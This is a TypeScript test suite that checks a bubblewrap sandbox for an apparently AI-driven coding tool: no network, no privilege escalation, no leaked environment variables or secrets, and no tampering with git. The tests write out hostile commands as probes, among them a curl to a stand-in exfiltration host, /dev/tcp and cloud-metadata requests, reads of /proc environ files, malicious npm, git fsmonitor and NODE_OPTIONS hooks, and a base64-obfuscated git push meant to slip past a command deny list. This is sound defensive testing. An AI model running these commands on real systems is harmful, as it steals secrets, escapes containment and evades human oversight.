import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { createSocket } from "node:dgram";
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { planDependencyBinds } from "../../../src/adapters/sandbox/dependency-binds.ts";
import { startSandboxed } from "../../../src/adapters/sandbox/start-sandboxed.ts";
import { findBubblewrap } from "../../../src/adapters/sandbox/find-bubblewrap.ts";
import { canSandbox, makeSandboxRig, type SandboxRig } from "./sandbox-rig.ts";

const CANARY = "canary-5f1d9c";
const isRoot = process.getuid?.() === 0;

describe.runIf(await canSandbox())("inside the sandbox", { timeout: 60_000 }, () => {
	let rig: SandboxRig;
	beforeAll(async () => {
		process.env["ROOKERY_TEST_CANARY"] = CANARY;
		rig = await makeSandboxRig();
	}, 60_000);
	afterAll(async () => {
		delete process.env["ROOKERY_TEST_CANARY"];
		await rig?.[Symbol.asyncDispose]();
	});

	/** A trusted child of a fix: a writable tree and a read-only view of the history. */
	async function trusted(files?: Readonly<Record<string, string>>) {
		const repository = await rig.makeRepository(files);
		const git = path.join(repository.root, ".git");
		const child = rig.openChild({ root: repository.root, writable: true, git: { gitDirectory: git, commonDirectory: git } });
		return { ...repository, child };
	}

	it("A69 S-118 no network of any kind: TCP, UDP, names, the metadata address", async () => {
		const hits: string[] = [];
		const listen = async (host: string): Promise<Server> => {
			const server = createServer(() => hits.push(host));
			await new Promise<void>((resolve) => server.listen(0, host, resolve));
			return server;
		};
		const servers = [await listen("127.0.0.1"), await listen("::1")];
		const udp = createSocket("udp4", () => undefined).on("message", () => hits.push("udp"));
		await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
		const ports = servers.map((server) => (server.address() as { port: number }).port);
		const { child } = await trusted();
		await using _child = child;
		const tries = [
			`curl -sS -m 3 http://127.0.0.1:${ports[0]}/`,
			`curl -sS -m 3 'http://[::1]:${ports[1]}/'`,
			`exec 3<>/dev/tcp/127.0.0.1/${ports[0]}`,
			"curl -sS -m 3 http://169.254.169.254/latest/meta-data/",
			"node -e \"require('node:dns').lookup('example.com', (error) => process.exit(error ? 1 : 0))\"",
		];
		for (const command of tries) expect(await child.bash(command), command).not.toMatchObject({ data: { exitCode: 0 } });
		await child.bash(`echo x > /dev/udp/127.0.0.1/${udp.address().port}; sleep 0.2`);
		expect(await child.bash("curl -sS -m 3 https://exfiltrate.example.com/?x=1")).toMatchObject({
			code: "E_NET",
			content: expect.stringMatching(/to exfiltrate\.example\.com/),
		});
		for (const server of servers) server.close();
		udp.close();
		expect(hits).toEqual([]);
	});

	it("a loopback socket within the sandbox works, as tests need it", async () => {
		const { child } = await trusted();
		await using _child = child;
		const script =
			"const s=require('node:http').createServer((q,r)=>r.end('hello')).listen(0,'localhost',async()=>{console.log(await (await fetch('http://localhost:'+s.address().port)).text());s.close()})";
		expect(await child.bash(`node -e "${script}"`)).toMatchObject({ content: expect.stringContaining("hello"), data: { exitCode: 0 } });
	});

	it("S-189 commands, file tools and search tools all work in the tree, whatever a command did before", async () => {
		const { child, root } = await trusted({ "a.txt": "one\n", "sub/b.txt": "needle\n" });
		await using _child = child;
		expect((await child.bash("pwd")).content.split("\n")).toContain(root);
		expect(await child.use("read_file", { path: "sub/b.txt" })).toMatchObject({ filesRead: ["sub/b.txt"] });
		expect((await child.use("grep", { pattern: "needle" })).content).toContain("sub/b.txt");
		expect((await child.use("glob", { pattern: "**/*.txt" })).content).toContain("sub/b.txt");
		await child.use("write_file", { path: "sub/c.txt", content: "new\n" });
		expect(readFileSync(path.join(root, "sub/c.txt"), "utf8")).toBe("new\n");
	});

	it("A37 X-17 settings of the head for package managers and search tools have no effect outside; search ignores them", async () => {
		const sentinel = path.join(rig.folder, "sentinel-a37");
		const { child, root } = await trusted({
			".npmrc": `ignore-scripts=false\nnode-options=--require ${sentinel}.js\nregistry=http://127.0.0.1:9/\n`,
			".env": `BASH_ENV=${sentinel}\nNODE_OPTIONS=--require=./evil.js\n`,
			"bunfig.toml": 'preload = ["./evil.js"]\n',
			".ripgreprc": "--invert-match\n--pre=./evil.sh\n",
			"evil.js": `require("node:fs").writeFileSync(${JSON.stringify(sentinel)}, "x")\n`,
			"evil.sh": `#!/bin/sh\ntouch ${sentinel}\n`,
			"package.json": JSON.stringify({ name: "x", version: "1.0.0", scripts: { preinstall: `touch ${sentinel}`, test: "node evil.js" } }),
			"a.txt": "needle\n",
		});
		await using _child = child;
		let asked = 0;
		const outside = createServer(() => void asked++);
		await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
		const { port } = outside.address() as { port: number };
		expect(await child.bash(`curl -sS -m 3 http://127.0.0.1:${port}/`)).not.toMatchObject({ data: { exitCode: 0 } });
		outside.close();
		expect(asked).toBe(0);
		await child.bash("chmod +x evil.sh; npm test 2>&1; npm install --offline 2>&1");
		const found = (await child.use("grep", { pattern: "needle" })).content;
		expect(found).toContain("a.txt");
		expect(found).not.toContain("package.json");
		expect(existsSync(sentinel)).toBe(false);
		expect(existsSync(path.join(root, "a.txt"))).toBe(true);
	});

	it("A70 sockets and folders of the host are not there", async () => {
		const { child } = await trusted();
		await using _child = child;
		const { content } = await child.bash(
			'for p in /run /var /home /root /sys /mnt /srv /boot /etc/shadow /var/run/docker.sock; do [ -e $p ] && echo "there: $p"; done; ls /; echo end',
		);
		expect(content).not.toContain("there:");
		expect(content).not.toContain(path.basename(rig.folder));
	});

	it("A71 trap 1: nothing of the system can be made writable, for root neither, and no capability is left", async () => {
		const { child } = await trusted();
		await using _child = child;
		const { content } = await child.bash(
			[
				"grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs' /proc/self/status; id -u",
				"mount -o remount,rw / 2>&1; mount --bind /tmp /usr 2>&1; touch /etc/x /usr/x /x /dev/x 2>&1",
				"for f in kernel/core_pattern kernel/hostname vm/overcommit_memory; do (echo x > /proc/sys/$f) 2>&1; done",
				"[ -e /etc/x ] || [ -e /usr/x ] || [ -e /x ] && echo BROKEN; echo end",
			].join("; "),
		);
		expect(content).not.toContain("BROKEN");
		expect(content.match(/Cap\w+:\t0{16}/g)).toHaveLength(4);
		expect(content).toContain("NoNewPrivs:\t1");
		expect(content).not.toMatch(/^0$/m);
		expect(content.match(/Read-only file system|Permission denied|must be superuser|not permitted/g)?.length).toBeGreaterThanOrEqual(9);
		expect(existsSync("/etc/x")).toBe(false);
	});

	it("A72 privileges and other namespaces are out of reach", async () => {
		const { child } = await trusted();
		await using _child = child;
		const tries = [
			"sudo -n id",
			"su -c id",
			"unshare -r id",
			"unshare -n id",
			"nsenter -t 1 -a id",
			"mknod x c 1 3",
			"mount -t tmpfs x /tmp",
			"chroot / id",
		];
		for (const command of tries) expect(await child.bash(`${command} 2>&1`), command).not.toMatchObject({ data: { exitCode: 0 } });
		const { content } = await child.bash("cp /usr/bin/id ./s; chmod 4755 ./s; ./s -u; ls -la /proc/1/root/ 2>&1 | head -2");
		expect(content).not.toMatch(/^0$/m);
	});

	it("A73 A74 trap 2: the environment holds only what we put there, in no process", async () => {
		const { child } = await trusted();
		await using _child = child;
		const { content } = await child.bash(
			"env; set; ps eww; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; echo; wc -c < /proc/1/environ",
		);
		expect(content).not.toContain(CANARY);
		expect(content).not.toMatch(/^(GITHUB|ACTIONS|RUNNER|INPUT|ANTHROPIC|NODE|npm|VITEST)_?\w*=/im);
		expect(content).toMatch(/^0$/m);
		const names = (await child.bash("env")).content.match(/^\w+(?==)/gm)?.filter((name) => !name.startsWith("GIT_"));
		expect(names?.sort()).toEqual(["CI", "HOME", "LANG", "PAGER", "PATH", "PWD", "SHLVL", "TERM", "TMPDIR", "_"]);
	});

	it("trap 3: only its own processes are seen, and the orchestrator's files are not", async () => {
		const { child } = await trusted();
		await using _child = child;
		const { content } = await child.bash(
			`ls /proc | grep -c '^[0-9]'; cat /proc/${process.pid}/environ /proc/${process.ppid}/environ 2>&1 | tr '\\0' '\\n'; ls -la /proc/self/fd /proc/2/fd 2>&1`,
		);
		expect(Number(/^\d+/.exec(content)?.[0])).toBeLessThan(10);
		expect(content).not.toContain(CANARY);
	});

	it("descriptors that the orchestrator holds do not come in", async () => {
		const { root } = await rig.makeRepository();
		const found = await findBubblewrap();
		if (!found.ok) throw new Error(found.reason);
		const spawned = await startSandboxed(found, { node: process.execPath, code: rig.built.code }, { root, writable: false }, [
			"/bin/sh",
			"-c",
			"ls -l /proc/self/fd",
		]);
		let text = "";
		spawned.output.on("data", (chunk: Buffer) => {
			text += chunk.toString("utf8");
		});
		await spawned.ended;
		const numbers = [...text.matchAll(/ (\d+) -> /g)].map((match) => Number(match[1]));
		// The fourth is the folder that `ls` itself reads.
		expect(numbers).toEqual([0, 1, 2, 3]);
	});

	it.runIf(isRoot)("trap 5: a tree of another user can be written, because the process is that user", async () => {
		const { root } = await rig.makeRepository();
		for (const place of [root, path.join(root, "a.txt")]) chownSync(place, 12345, 12345);
		await using child = rig.openChild({ root, writable: true });
		expect(await child.bash("echo two >> a.txt && id -u && touch new")).toMatchObject({
			data: { exitCode: 0 },
			content: expect.stringContaining("12345"),
		});
		expect(lstatSync(path.join(root, "new")).uid).toBe(12345);
		await using small = rig.openChild({ root, writable: true }, { limits: { processes: 64 } });
		expect((await small.bash("(for i in $(seq 100); do sleep 5 & done) 2>&1 | head -1")).content).toContain(
			"fork: retry: Resource temporarily unavailable",
		);
	});

	it("A41 A42 A43 trap 6: the worktree's link to git and all of git stay as they are, and reading commands work", async () => {
		const { child, root, origin } = await trusted();
		await using _child = child;
		expect((await child.bash("git status --short; git log --oneline; echo x >> a.txt; git diff --stat")).content).toMatch(
			/first[\s\S]*a\.txt/,
		);
		const before = hashFolder(path.join(root, ".git")) + hashFolder(origin);
		const tries = [
			"rm -rf .git",
			"mv .git old",
			"echo 'gitdir: /tmp/evil' > .git",
			"echo x > .git/hooks/pre-commit",
			"git config core.fsmonitor ./evil",
			"echo x >> .git/info/attributes",
			"echo /tmp > .git/objects/info/alternates",
			"git add a.txt",
			"git commit -am x",
			"git update-ref refs/heads/evil HEAD",
			"git branch -D main",
			`git --git-dir=${root}/.git branch evil`,
			`git push ${origin} HEAD:refs/heads/evil`,
			`git -C ${origin} branch evil`,
		];
		for (const command of tries) expect(await child.bash(`${command} 2>&1`), command).not.toMatchObject({ data: { exitCode: 0 } });
		expect(hashFolder(path.join(root, ".git")) + hashFolder(origin)).toBe(before);
	});

	it("A41 a linked worktree shows its own history and nothing of the others", async () => {
		const { root } = await rig.makeRepository();
		const worktree = path.join(rig.folder, "linked");
		execFileSync("git", ["worktree", "add", "--detach", "--quiet", worktree], { cwd: root });
		const common = path.join(root, ".git");
		await using child = rig.openChild({
			root: worktree,
			writable: true,
			git: { commonDirectory: common, gitDirectory: path.join(common, "worktrees", "linked") },
		});
		expect(await child.bash("git log --oneline && git status --short")).toMatchObject({
			data: { exitCode: 0 },
			content: expect.stringContaining("first"),
		});
		expect(await child.bash("(rm -f .git || mv .git x || echo x > .git) 2>&1")).not.toMatchObject({ data: { exitCode: 0 } });
		expect(readFileSync(path.join(worktree, ".git"), "utf8")).toContain("gitdir:");
	});

	it("A50 a token in git's configuration is not there", async () => {
		const { child, root } = await trusted();
		writeFileSync(path.join(root, ".git", "config"), `[core]\n\trepositoryformatversion = 0\n[http]\n\textraheader = ${CANARY}\n`);
		await using _child = child;
		const { content } = await child.bash("cat .git/config; git config --list; grep -r canary .git 2>&1");
		expect(content).toContain("repositoryformatversion");
		expect(content).not.toContain("canary-");
		expect(await child.use("read_file", { path: ".git/config" })).toMatchObject({ code: "E_PATH" });
	});

	it("trap 9: a committed link where a folder is mounted sends nothing elsewhere", async () => {
		const { root } = await rig.makeRepository();
		const checkout = path.join(rig.folder, "checkout");
		mkdirSync(path.join(checkout, "node_modules/.bin"), { recursive: true });
		writeFileSync(path.join(checkout, "node_modules/.bin/tool"), "#!/bin/sh\necho tool ran\n", { mode: 0o755 });
		symlinkSync("/etc", path.join(root, "node_modules"));
		const refused = await planDependencyBinds({ names: ["node_modules"], checkout, root, home: rig.folder });
		expect(refused).toMatchObject({ binds: [], problems: [expect.stringContaining("something else at its place")] });
		const fresh = await rig.makeRepository();
		const { binds, problems } = await planDependencyBinds({
			names: ["node_modules", "~/.m2", "/", "relative/x"],
			checkout,
			root: fresh.root,
			home: rig.folder,
		});
		expect(problems).toHaveLength(3);
		await using child = rig.openChild({ root: fresh.root, writable: true, binds });
		expect(await child.bash("node_modules/.bin/tool && echo x > node_modules/x")).toMatchObject({
			content: expect.stringMatching(/tool ran[\s\S]*Read-only/),
		});
		expect(existsSync(path.join(checkout, "node_modules/x"))).toBe(false);
	});

	it("A47 trap 10: a bare repository among the files runs nothing of its configuration", async () => {
		const { child, root } = await trusted({
			"bare/HEAD": "ref: refs/heads/main\n",
			"bare/config":
				'[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "touch /tmp/home/ran; touch ran; false"\n',
			"bare/objects/x": "",
			"bare/refs/x": "",
		});
		await using _child = child;
		expect((await child.bash("cd bare && git status; ls /tmp/home")).content).not.toContain("ran");
		expect(existsSync(path.join(root, "bare/ran"))).toBe(false);
	});

	it("S-110 S-111 hidden files cannot be read by commands either, and protected ones not written", async () => {
		const { root } = await rig.makeRepository({
			"secrets/key": CANARY,
			".env": CANARY,
			".github/workflows/x.yml": "on: push\n",
			"a.txt": "one\n",
		});
		await using child = rig.openChild({
			root,
			writable: true,
			hiddenPaths: ["secrets", ".env", "../outside", "missing"],
			readOnlyPaths: [".github"],
		});
		expect(
			(await child.bash("cat secrets/key .env; cat < .env; cp .env x; grep -r canary . ; rm -f .env; cat .env")).content,
		).not.toContain(CANARY);
		expect(await child.bash("echo x > .github/workflows/x.yml")).not.toMatchObject({ data: { exitCode: 0 } });
		expect(await child.bash("mv .github x || rm -r .github || touch .github/new")).not.toMatchObject({ data: { exitCode: 0 } });
		expect(readFileSync(path.join(root, ".github/workflows/x.yml"), "utf8")).toBe("on: push\n");
		expect(await child.bash("echo two > a.txt")).toMatchObject({ data: { exitCode: 0 } });
	});

	it("a tree that is only read cannot be written", async () => {
		const { root } = await rig.makeRepository();
		await using child = rig.openChild({ root, writable: false });
		expect(await child.bash("echo x > a.txt || touch b || rm a.txt")).not.toMatchObject({ data: { exitCode: 0 } });
		expect(await child.use("write_file", { path: "b", content: "x" })).toMatchObject({ isError: true });
		expect(readdirSync(root).sort()).toEqual([".git", "a.txt"]);
	});

	it("A80 hostile project files run inside and reach nothing outside", async () => {
		const sentinel = path.join(rig.folder, "sentinel");
		const { child, root } = await trusted({
			"package.json": JSON.stringify({
				name: "x",
				version: "1.0.0",
				scripts: { test: `touch ${sentinel}; touch inside; curl -m 2 -s http://127.0.0.1:9/` },
			}),
			Makefile: `all:\n\ttouch ${sentinel}; touch made\n`,
		});
		await using _child = child;
		await child.bash("npm test 2>&1; make 2>&1");
		expect(existsSync(path.join(root, "made"))).toBe(true);
		expect(existsSync(sentinel)).toBe(false);
	});

	it("A81 a denied command that is not recognised has no effect all the same", async () => {
		const { child, origin } = await trusted({ "push.sh": "git push origin HEAD:refs/heads/evil\n" });
		await using _child = child;
		const before = hashFolder(origin);
		const tries = [
			"env git push origin HEAD:refs/heads/evil",
			"echo 'push origin HEAD:refs/heads/evil' | xargs git",
			"find . -name push.sh -exec sh {} \\;",
			"sh push.sh",
			"echo Z2l0IHB1c2ggb3JpZ2luIEhFQUQ6cmVmcy9oZWFkcy9ldmls | base64 -d | sh",
			"g=git; p=push; $g $p origin HEAD:refs/heads/evil",
		];
		for (const command of tries) expect((await child.bash(`${command} 2>&1`)).content).not.toContain("[new branch]");
		expect(hashFolder(origin)).toBe(before);
	});

	it("A84 A94 runner files and the audit are not mounted", async () => {
		const files = ["github_env", "github_path", "github_output", "summary.md", "audit.jsonl"].map((name) => path.join(rig.folder, name));
		for (const file of files) writeFileSync(file, "before\n");
		const { child } = await trusted();
		await using _child = child;
		for (const file of files) await child.bash(`mkdir -p ${rig.folder}; echo evil >> ${file}; truncate -s 0 ${file}; rm -f ${file}`);
		expect(files.map((file) => readFileSync(file, "utf8"))).toEqual(files.map(() => "before\n"));
	});

	it("A57 A59 A60 A61 file tools refuse what bash can make: links, pipes, system files", async () => {
		const { child } = await trusted();
		await using _child = child;
		await child.bash(
			"ln -s /etc/passwd link; ln -s /proc/self/environ env-link; ln -s / root-link; ln a.txt hard; mkfifo pipe; ln -s /dev/zero zero; truncate -s 2G sparse",
		);
		for (const file of ["link", "env-link", "root-link/etc/passwd", "hard", "a.txt", "pipe", "zero", "../x", "/etc/passwd"]) {
			const startedAt = performance.now();
			expect(await child.use("read_file", { path: file }), file).toMatchObject({ isError: true, code: "E_PATH" });
			expect(performance.now() - startedAt).toBeLessThan(1_000);
		}
		for (const file of ["/proc/self/environ", "/proc/1/environ", "/proc/self/root/etc/passwd", "/dev/fd/0"]) {
			expect(await child.use("read_file", { path: file }), file).toMatchObject({ isError: true, code: "E_PROC" });
		}
		const { content } = await child.use("grep", { pattern: "root|PATH" });
		expect(content).not.toMatch(/link|root:x/);
	});

	it("A82 binaries that a test has planted are not used for the next process", async () => {
		const { child, root } = await trusted();
		await using _child = child;
		const plant = "#!/bin/sh\\ntouch /tmp/home/planted; touch planted\\n";
		await child.bash(
			`mkdir -p node_modules/.bin; for f in node bwrap bash git node_modules/.bin/git node_modules/.bin/node; do printf '${plant}' > $f; chmod +x $f; done; kill -9 2`,
		);
		expect(await child.use("read_file", { path: "a.txt" })).toMatchObject({ filesRead: ["a.txt"] });
		expect(await child.bash("git status --short; ls /tmp/home")).toMatchObject({ data: { exitCode: 0 } });
		expect(existsSync(path.join(root, "planted"))).toBe(false);
		expect(child.problems).toHaveLength(1);
		chmodSync(path.join(root, "bwrap"), 0o644);
	});
});

function hashFolder(folder: string): string {
	const hash = createHash("sha256");
	const visit = (place: string): void => {
		for (const entry of readdirSync(place, { withFileTypes: true }).sort((a, b) => (a.name < b.name ? -1 : 1))) {
			const file = path.join(place, entry.name);
			hash.update(file);
			if (entry.isDirectory()) visit(file);
			else if (entry.isFile()) hash.update(readFileSync(file));
		}
	};
	visit(folder);
	return hash.digest("hex");
}
